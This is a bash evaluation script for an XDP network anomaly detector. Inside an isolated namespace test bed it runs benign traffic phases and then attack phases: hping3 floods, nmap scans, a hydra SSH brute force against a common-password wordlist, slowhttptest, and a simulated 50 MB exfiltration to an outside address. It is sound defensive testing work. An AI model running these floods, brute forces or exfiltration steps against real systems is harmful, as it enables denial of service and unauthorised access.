#!/usr/bin/env bash
# SPDX-License-Identifier: (GPL-2.0-only OR BSD-2-Clause)
#
# eval-live.sh - the live part of `make eval` (scripts/eval.sh runs it; root).
#
# nadxdp on its defaults, mitigation on, in the namespace test bed (scripts/testbed.sh with
# NADX_NAT=1, prefix $NADX_PREFIX, default "nadxev" so it does not meet a demo's bed), in a
# private mount namespace (lib.sh's private_mounts: its own bpffs and /run), so its pins
# never meet another nadxdp. Every process started here is stopped by its pid and the bed
# is always removed (trap). Only 198.18.0.0/15 inside the bed is used.
#   mon 198.18.0.1   nadxdp on the monitored interface; nginx :80 (small pages, 200 KB-1 MB
#                    assets, a 128 MB file), dnsmasq :53, sshd :22, iperf3 :5201, an nc sink
#                    on :9999, the IoT collector on UDP 1883 and 5683
#   cli 198.18.0.2   benign client, all along: a web page every 0.5 s, an asset every 4 s, a
#                    DNS lookup every 2 s, an ssh login with a key every 20 s
#       198.18.0.4   IoT-like: 40-60 B UDP telemetry to 1883 and 5683 every second
#   nat 198.18.0.5   a home router masquerading (nftables) for 198.18.1.10-17 in the lan
#                    namespace: "many clients behind one NAT address"
#   atk 198.18.0.3   the attacker; it also holds 198.19.0.1, an address outside the home net
#
# Phases, one after the other in this order, each with its start and end recorded
# (EVAL_PHASES="a b" runs only those; "benign" and "attacks" name the two groups):
#   heavy-benign (benign hosts only; the client's browsing and the IoT telemetry go on):
#     browse      60 s of the background traffic alone
#     ab          ApacheBench: 30,000 requests, 16 at a time, from the client
#     iperf3      bulk TCP, client to monitored host, 5 s; iperf3_rev the same with -R
#     download    two 128 MB downloads from nginx
#     stream      a 40 MB download at a steady 2 MB/s (curl --limit-rate)
#     backup      the monitored host uploads 128 MB to the client (nc to :873, rsync's port)
#     nat         eight clients behind the NAT: ab, pages, 1 MB assets and DNS lookups each
#     dns         a busy DNS client: 5,000 lookups in a tight loop (dig -f)
#   attacks (from the attacker, 12 s apart, as before):
#     hping3_syn_flood nmap_sS hping3_udp_flood nmap_sT hping3_icmp_flood hydra_ssh nmap_sU
#     slowhttptest nmap_sV upload_in_nc_9999 (50 MB uploaded by the attacker to :9999 of
#     the monitored host: an inbound upload, scored by no class; its classes are printed)
#     exfil_out_443 (the monitored host, compromised, opens a connection to 198.19.0.1:443
#     outside the home net and uploads 50 MB: data_exfiltration from 198.18.0.1)
# Rules: after each phase's pause the automatic drop rules are listed (with their hits) and
# deleted, so the next phase meets an unblocked bed; EVAL_UNBLOCK=0 deletes the attacker's
# only and leaves rules against benign hosts in place, as an operator would meet them.
# The tables come from scripts/eval-live-report.py, which can print them again from a run
# kept with EVAL_KEEP=1 (python3 scripts/eval-live-report.py DIR).
set -uo pipefail
# shellcheck source=scripts/lib.sh
. "$(dirname "$0")/lib.sh"

need=(hping3 nmap hydra slowhttptest dnsmasq nginx nc curl dig ssh ssh-keygen nsenter python3
	ab iperf3 nft unshare)
miss=()
if [ "$(id -u)" -ne 0 ]; then
	echo "eval: live part skipped (needs root: namespaces and XDP)"
	exit 0
fi
for t in "${need[@]}"; do command -v "$t" >/dev/null || miss+=("$t"); done
[ -x /usr/sbin/sshd ] || miss+=(sshd)
if [ ${#miss[@]} -gt 0 ]; then
	echo "eval: live part skipped, missing: ${miss[*]} (scripts/install-deps.sh)"
	exit 0
fi
private_mounts "$@"

cd "$(dirname "$0")/.." || exit 1
BIN=$(readlink -f "${NADXDP_BIN:-./nadxdp}")
export NADX_PREFIX=${NADX_PREFIX:-nadxev} NADX_NAT=1
TB="$PWD/scripts/testbed.sh"
eval "$(bash "$TB" env)"
WORK=$(mktemp -d /tmp/nadxdp-eval.XXXXXX)
W=$WORK
PIDS=()
PHASES=" ${EVAL_PHASES:-benign attacks} "
BENIGN=(browse ab iperf3 iperf3_rev download stream backup nat dns)
ATTACKS=(hping3_syn_flood nmap_sS hping3_udp_flood nmap_sT hping3_icmp_flood hydra_ssh nmap_sU
	 slowhttptest nmap_sV upload_in_nc_9999 exfil_out_443)
for p in $PHASES; do
	case " benign attacks ${BENIGN[*]} ${ATTACKS[*]} " in
	*" $p "*) ;;
	*) echo "eval: unknown phase '$p' (benign attacks ${BENIGN[*]} ${ATTACKS[*]})" >&2; exit 2 ;;
	esac
done

stop_all() {
	stop_bg "${PIDS[@]}"
	keep_work eval "${EVAL_KEEP:-}"
}
on_exit_teardown stop_all quiet
now() { date +%s.%N; }
# selected KIND NAME: is the phase in EVAL_PHASES (by name or by its group)?
selected() {
	case $PHASES in *" $1 "* | *" $2 "*) return 0 ;; esac
	return 1
}
snap() { "$BIN" status --json --top 64 >"$W/status.$1.json" 2>/dev/null; }

bash "$TB" up >/dev/null || { echo "eval: test bed failed"; exit 1; }
bed_content
bed_services

# nadxdp on its defaults (mitigation on); nsenter execs it: $! is the daemon itself.
nsenter --net="/run/netns/$TB_MON_NS" -- "$BIN" run "$TB_MON_IF" --no-train \
	--retrain-interval 0 -q --summary-interval 0 --log "$W/eve.json" \
	>"$W/daemon.log" 2>&1 & DAEMON=$!
PIDS+=("$DAEMON")
wait_daemon "$DAEMON" /sys/fs/bpf/nadxdp/nad_stats || true
if ! kill -0 "$DAEMON" 2>/dev/null; then
	echo "eval: nadxdp did not start:"; cat "$W/daemon.log"; exit 1
fi
sleep 1
cat >"$W/meta.json" <<EOF
{"cli": "$TB_CLI_IP", "iot": "$IOT_IP", "nat": "$TB_NAT_IP", "mon": "$TB_MON_IP",
 "atk": "$TB_ATK_IP", "ext": "$TB_EXT_IP", "ext_net": "$TB_EXT_NET", "lan": "$TB_LAN_IPS",
 "unblock": "${EVAL_UNBLOCK:-1}"}
EOF

# benign client and IoT device, for the whole run
ssh_login && echo ok >"$W/ssh_ok"
bed_users

# unblock NAME: lists the rules after a phase (kept for the report), then deletes the
# automatic drop rules: all of them, or with EVAL_UNBLOCK=0 the attacker's only.
unblock() {
	rules_unblock "$W/rules.$1.json" "$([ "${EVAL_UNBLOCK:-1}" = 0 ] && echo attacker ||
		echo all)" >/dev/null
}

# phase KIND NAME EXPECTED-CLASS EXPECTED-SOURCE PAUSE FUNCTION [ARGS...]: runs FUNCTION
# (its output to out.NAME, its one-line summary of the tool's result to sum.NAME), records
# the phase's start, end and the end of its pause in phases.tsv, the counters around it,
# and the rules after it.
phase() {
	local kind=$1 name=$2 cls=$3 src=$4 pause=$5 fn=$6 s e w rc
	shift 6
	selected "$kind" "$name" || return 0
	snap "$name.0"
	s=$(now)
	"$fn" "$@" >"$W/out.$name" 2>&1
	rc=$?
	e=$(now)
	echo "eval: live: $name done ($(awk -v a="$s" -v b="$e" 'BEGIN { printf "%.1f", b - a }') s," \
		"rc $rc) $(cat "$W/sum.$name" 2>/dev/null)"
	sleep "$pause"
	w=$(now)
	snap "$name.1"
	unblock "$name"
	printf '%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\n' "$kind" "$name" "$cls" "$src" "$s" "$e" "$w" \
		"$rc" >>"$W/phases.tsv"
}
p_browse() { CUR=browse; sleep 60; summary "background browsing and IoT only"; }

# ---- attacks ----------------------------------------------------------------------------
# 60 guesses: with sshd's default MaxAuthTries 6, hydra needs about 15 connections
for w in 123456 password admin root toor letmein qwerty 12345678 111111 abc123 \
	 dragon master monkey shadow sunshine princess football iloveyou 000000 \
	 welcome login passw0rd 1234 12345 654321 superman batman trustno1 hello; do
	echo "$w"
	echo "${w}1"
done >"$W/words"
atk() { in_ns "$TB_ATK_NS" "$@"; }
p_exfil() { CUR=exfil_out_443; push "$TB_ATK_NS" "$TB_EXT_IP" 443 "$W/upload.bin" outside; }

echo "eval: live: nadxdp on $TB_MON_IF, mitigation on; phases:$PHASES"
B=benign
phase $B browse - "$TB_CLI_IP" 0 p_browse
phase $B ab - "$TB_CLI_IP" 6 p_ab
phase $B iperf3 - "$TB_CLI_IP" 6 p_iperf3
phase $B iperf3_rev - "$TB_CLI_IP" 6 p_iperf3 -R
phase $B download - "$TB_CLI_IP" 6 p_download
phase $B stream - "$TB_CLI_IP" 6 p_stream
phase $B backup - "$TB_MON_IP" 6 p_backup
phase $B nat - "$TB_NAT_IP" 6 p_nat
phase $B dns - "$TB_CLI_IP" 6 p_dns

A=attacks X=$TB_ATK_IP
phase $A hping3_syn_flood dos_attack "$X" 12 atk timeout 4 hping3 -q -S -p 80 --flood "$TB_MON_IP"
phase $A nmap_sS scanning "$X" 12 atk nmap -n -Pn -sS -p 1-1000 -T4 --max-retries 1 "$TB_MON_IP"
phase $A hping3_udp_flood dos_attack "$X" 12 atk timeout 4 hping3 -q --udp -p 7000 --flood \
	"$TB_MON_IP"
phase $A nmap_sT scanning "$X" 12 atk nmap -n -Pn -sT -p 1-1000 -T4 --max-retries 1 "$TB_MON_IP"
phase $A hping3_icmp_flood dos_attack "$X" 12 atk timeout 4 hping3 -q --icmp --flood "$TB_MON_IP"
phase $A hydra_ssh credential_stuffing "$X" 12 atk timeout 60 sh -c \
	"cd '$W' && hydra -l admin -P '$W/words' -t 4 -I ssh://$TB_MON_IP"
phase $A nmap_sU scanning "$X" 12 atk timeout 30 nmap -n -Pn -sU -p 1-200 -T4 --max-retries 1 \
	--min-rate 200 "$TB_MON_IP"
phase $A slowhttptest dos_attack "$X" 12 atk timeout 25 slowhttptest -H -c 300 -i 5 -r 100 -l 15 \
	-u "http://$TB_MON_IP/" -p 3 -x 24
phase $A nmap_sV scanning "$X" 12 atk timeout 60 nmap -n -Pn -sV -p 1-100 -T4 --max-retries 1 \
	--version-light "$TB_MON_IP"
phase $A upload_in_nc_9999 - "$X" 12 atk timeout 30 sh -c "nc -N $TB_MON_IP 9999 <'$W/upload.bin'"
phase $A exfil_out_443 data_exfiltration "$TB_MON_IP" 12 p_exfil

# packets each source sent over the whole run (the kernel's per-source counters)
snap end
kill -TERM "$DAEMON"
wait "$DAEMON"
python3 scripts/eval-live-report.py "$W"
